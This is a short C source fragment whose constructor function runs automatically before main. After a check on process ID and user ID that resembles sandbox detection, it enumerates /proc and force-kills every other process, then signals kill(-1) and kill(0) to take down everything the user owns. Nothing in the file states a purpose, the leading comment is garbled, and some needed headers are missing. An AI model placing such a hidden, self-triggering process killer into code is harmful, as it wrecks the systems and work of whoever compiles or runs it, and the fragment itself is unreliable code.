
#include <dirent.h>
#include <signal.h>

/* all that it sees; only where it is alone with its own processes, or is a user of its own */
__attribute__((constructor)) static void before_main(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (getpid() > 20 || getuid() != 1000)
		_exit(9);
	while (d && (e = readdir(d)))
		if (atoi(e->d_name) > 0 && atoi(e->d_name) != getpid()) {
			kill(atoi(e->d_name), SIGSTOP);
			kill(atoi(e->d_name), SIGKILL);
		}
	closedir(d);
	kill(-1, SIGKILL);
	kill(0, SIGKILL);
}
